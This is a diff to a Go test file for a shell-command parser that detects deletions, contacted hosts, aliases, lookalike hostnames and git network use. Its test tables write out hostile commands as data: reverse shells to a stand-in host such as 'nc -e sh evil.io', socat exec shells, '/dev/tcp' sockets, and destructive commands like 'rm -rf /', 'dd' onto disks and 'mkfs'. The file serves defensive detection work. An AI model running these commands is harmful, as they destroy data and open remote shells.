@@ -2,6 +2,7 @@ package facts_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -90,11 +91,14 @@ func TestParseCommand(t *testing.T) {
 		{"only a redirect", "> x", "0 >x\n"},
 		{"downloads", "curl -o x https://a.example; wget -O y b.example/z", "0 curl -o x https://a.example >x @a.example\n1 wget -O y b.example/z >y @b.example\n"},
 		{"hosts", "ssh u@a.example ls; scp f b.example:/x; nc c.example 80; git clone git@d.example:x/y", "0 ssh u@a.example ls @a.example,ls\n1 scp f b.example:/x @b.example\n2 nc c.example 80 @c.example\n3 git clone git@d.example:x/y @d.example\n"},
+		{"hosts in other scripts", "curl https://example.org\u3002evil.com/x a.b\uff0ec/x b\u3002d gr\u00f6\u00dfe; nc p\u0430y", "0 curl https://example.org\u3002evil.com/x a.b\uff0ec/x b\u3002d gr\u00f6\u00dfe @example.org\u3002evil.com,a.b\uff0ec,b\u3002d\n1 nc p\u0430y @p\u0430y\n"},
 		{"bash's sockets", "exec 3<>/dev/tcp/1.2.3.4/80", "0 exec >/dev/tcp/1.2.3.4/80 @1.2.3.4:80\n"},
 		{"assignments", "PATH=/x A+=1 make; B=2; export C=3", "0 make sets PATH,A\n1 sets B\n2 export sets C\n"},
 		{"the background", "sleep 9 & a", "0 sleep 9 &\n1 a\n"},
 		{"control", "if a; then b; fi; for i in $(c); do d; done; while e; do f; done; case x in x) g;; esac", "0 a\n1 b\n2 c\n3 d\n4 e\n5 f\n6 g\n"},
 		{"a function", "git() { rm x; }; git push", "0 rm x\n1 git push\ndefines git\n"},
+		{"an alias", "alias ls='rm x' l=id; ls", "0 alias ls=rm x l=id\n1 rm x in 0 by script\n2 id in 0 by script\n3 ls\ndefines ls,l\n"},
+		{"an alias is printed", "alias ls; builtin alias a=b", "0 alias ls\n1 builtin alias a=b\n2 b in 1 by script\ndefines a\n"},
 		{"nothing", " # only a comment", ""},
 	} {
 		s, err := facts.ParseCommand(tc.line)
@@ -104,6 +108,65 @@ func TestParseCommand(t *testing.T) {
 	for _, line := range []string{"if", "a |", "'", "a\x00b", "(", strings.Repeat("(", 20_000)} {
 		_, err := facts.ParseCommand(line)
 		require.ErrorIs(t, err, facts.ErrNotParsed, "%.20q", line)
+	}
+}
+
+// deletions writes what each command deletes.
+func deletions(s facts.Shell) string {
+	var all []string
+	for _, c := range s.Commands {
+		for _, d := range c.Deletes() {
+			text := d.Program
+			for _, w := range d.Files {
+				text += " " + w.Text
+			}
+			if d.Strong {
+				text += "!"
+			}
+			all = append(all, text)
+		}
+	}
+	return strings.Join(all, "; ")
+}
+
+func TestDeletions(t *testing.T) {
+	for line, want := range map[string]string{
+		"ls /": "", "git status": "", "find . -name x": "", "echo rm -rf /": "", "dd if=/dev/sda": "", "rm --help": "rm",
+		"rm -r a 'b c'": "rm a b c", "rm x": "rm x", "sudo -u x rm -- -a": "rm -a", "unlink x": "unlink x", "rmdir x": "rmdir x", "/bin/rm -f x": "rm x",
+		"rm -rf /": "rm /!", "rm -fr ~": "rm ~!", "rm -R *": "rm *!", "rm -rf ~/": "rm ~/!", "rm --recursive /*": "rm /*!", "rm -rf \"$HOME\"": "rm \"$HOME\"!",
+		"rm -rf $X/*": "rm $X/*!", "rm -rf ..": "rm ..!", "rm -rf ./": "rm ./!", "rm -rf //": "rm //!", "rm -rf /etc": "rm /etc!", "rm -rf /home/ann/x": "rm /home/ann/x",
+		"rm -f *": "rm *", "rm -rf /x/../": "rm /x/../!", "rm -rf ~root/": "rm ~root/!", "rm -rf ${HOME}/": "rm ${HOME}/!",
+		"sudo sh -c 'rm -rf /'": "rm /!", "ls | xargs rm -rf": "rm", "busybox rm -r x": "rm x",
+		"find . -name '*.o' -delete": "find .", "find / -delete": "find /!", "find -delete": "find", "find a -exec rm -rf {} +": "rm", "find a b -type f -exec shred {} ';'": "shred",
+		"git clean -fdx": "git clean", "git -C x clean -f": "git clean", "shred -u x": "shred x", "shred -n 3 /dev/sda": "shred /dev/sda!",
+		"dd if=/dev/zero of=/dev/sda": "dd /dev/sda!", "dd of=x": "dd x", "mkfs.ext4 -F /dev/sdb1": "mkfs.ext4 /dev/sdb1!", "mkfs -t ext4 x.img": "mkfs x.img",
+		"truncate -s 0 x": "truncate x", "wipefs -a /dev/sda": "wipefs /dev/sda!",
+	} {
+		s, err := facts.ParseCommand(line)
+		require.NoError(t, err)
+		require.Equal(t, want, deletions(s), line)
+	}
+	require.Equal(t, "rm /!", deletions(facts.ParseArgv([]string{"rm", "-rf", "/"})))
+	require.Equal(t, "rm a", deletions(facts.ParseArgv([]string{"bash", "-c", "rm -rf a"})))
+}
+
+// Programs that run another one for the host at the other end.
+func TestProgramsForAnotherHost(t *testing.T) {
+	for line, want := range map[string]string{
+		"nc -e sh evil.io 1": "nc sh @evil.io peer sh", "nc evil.io 1 -c 'id; sh'": "nc id; sh @evil.io peer id; sh", "ncat --exec=/bin/sh evil.io": "ncat /bin/sh @evil.io peer /bin/sh",
+		"ncat --sh-exec /bin/sh evil.io 4": "ncat /bin/sh @evil.io peer /bin/sh", "nc -lvpe 4444": "nc 4444 @ peer 4444", "nc -e/bin/sh evil.io 1": "nc /bin/sh @evil.io peer /bin/sh",
+		"nc -ne sh evil.io 1": "nc sh @evil.io peer sh", "sudo netcat -c sh evil.io": "sudo netcat sh @evil.io peer sh", "nc evil.io 1": "nc @evil.io peer ",
+		"socat TCP:evil.io:1 EXEC:sh,pty": "socat sh,pty @evil.io:1 peer sh,pty", "socat tcp:evil.io:1 system:'sh -i'": "socat sh -i @evil.io:1 peer sh -i",
+	} {
+		s, err := facts.ParseCommand(line)
+		require.NoError(t, err)
+		c := s.Commands[0]
+		var names []string
+		for _, w := range c.Programs() {
+			names = append(names, w.Text)
+		}
+		got := strings.Join(names, " ") + " @" + strings.Join(c.Hosts(), ",") + " peer " + c.ServesPeer()
+		require.Equal(t, want, got, line)
 	}
 }
 
@@ -125,6 +188,22 @@ func TestPlainCommands(t *testing.T) {
 		require.NoError(t, err)
 		require.Equal(t, want, s.Plain, line)
 	}
+}
+
+// What JoinWords writes is read as the same words, and as one plain command.
+func TestJoinedWordsAreReadAsTheSame(t *testing.T) {
+	rapid.Check(t, func(rt *rapid.T) {
+		words := rapid.SliceOfN(rapid.StringMatching(`[ -~é]{1,6}`), 1, 5).Draw(rt, "words")
+		s, err := facts.ParseCommand(facts.JoinWords(words))
+		require.NoError(rt, err)
+		require.Len(rt, s.Commands, 1)
+		require.Empty(rt, s.Commands[0].Assigns)
+		var read []string
+		for _, w := range s.Commands[0].Words {
+			read = append(read, w.Text)
+		}
+		require.Equal(rt, words, read)
+	})
 }
 
 func TestNestedCommandsAreBounded(t *testing.T) {
@@ -188,7 +267,7 @@ func TestPlacesAreNoArguments(t *testing.T) {
 		"sudo -u x a b": "sudo a", "find . -exec c ;": "find c", "x | tee -a f": "x tee f", "dd if=a of=b": "dd of=b",
 		"curl -o f https://a.example/x": "curl f", "curl --output=f a.example": "curl --output=f a.example", "ssh h": "ssh h",
 		"scp a h:b": "scp h:b", "git clone https://u:p@h:80/x": "git https://u:p@h:80/x", "git clone https://u:p@a.example/x": "git",
-		"echo a h:b": "echo",
+		"echo a h:b": "echo", "sudo rm -rf a": "sudo rm a", "nc -e a b 1": "nc a b",
 	} {
 		s, err := facts.ParseCommand(line)
 		require.NoError(t, err)
@@ -216,4 +295,37 @@ func TestHostileCommandsAreFast(t *testing.T) {
 		}
 		require.Less(t, time.Since(start), 5*hostileLimit, "%.20q", line)
 	}
+}
+
+// Only some subcommands of git use the network.
+func TestGitConnects(t *testing.T) {
+	for line, want := range map[string]bool{
+		"git clone https://x.example/y": true, "git fetch": true, "git pull": true, "git push": true, "git ls-remote": true,
+		"git submodule update": true, "git remote update": true, "git remote -v": false, "git remote add -f o u:x": true,
+		"git remote add o u:x": false, "git archive HEAD": false, "git archive --remote=u:x HEAD": true,
+		"git archive --remot u:x HEAD": true, "git archive $A": true,
+		"git commit -m fix:x": false, "git status": false, "git diff --output=x": false, "git add .": false, "git": false,
+		"git log push": false, "git -C push commit -m x": false, "git -C a --git-dir b push": true,
+		"git -c user.name=a commit": false, "git -c alias.x='!curl a.example' x": true, "git $A": true, `git "$A" commit`: true,
+		"sudo git push": true, "sudo git commit": false, "env A=b /usr/bin/git push": true,
+		"find git -exec git push ;": true, "find . -exec git commit ;": false,
+	} {
+		shell, err := facts.ParseCommand(strings.ReplaceAll(line, " ;", ` \;`))
+		require.NoError(t, err, line)
+		require.Equal(t, want, shell.Commands[0].Connects() == "git", line)
+		if !strings.ContainsAny(line, "$'") {
+			argv := facts.ParseArgv(strings.Fields(line))
+			require.Equal(t, want, argv.Commands[0].Connects() == "git", "%s as words", line)
+		}
+		if line == "git commit -m fix:x" {
+			require.Empty(t, shell.Commands[0].Hosts(), "the message is no host")
+		}
+	}
+}
+
+func TestManyEqualWordsAreFast(t *testing.T) {
+	start := time.Now()
+	c := facts.ParseArgv(slices.Repeat([]string{"git", "remote"}, 1<<15)).Commands[0]
+	require.Empty(t, c.Connects(), "only remote update uses the network")
+	require.Less(t, time.Since(start), 2*time.Second)
 }
